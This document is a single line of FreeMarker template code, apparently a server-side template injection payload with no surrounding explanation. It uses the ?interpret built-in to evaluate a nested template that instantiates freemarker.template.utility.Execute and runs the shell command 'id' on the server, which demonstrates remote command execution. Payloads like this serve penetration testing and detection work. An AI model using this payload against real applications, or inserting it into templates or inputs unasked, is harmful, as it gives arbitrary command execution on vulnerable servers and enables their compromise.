<#assign t = "<#assign x = 'freemarker.template.utility.Execute'?new()>${x('id')}"?interpret><@t/>
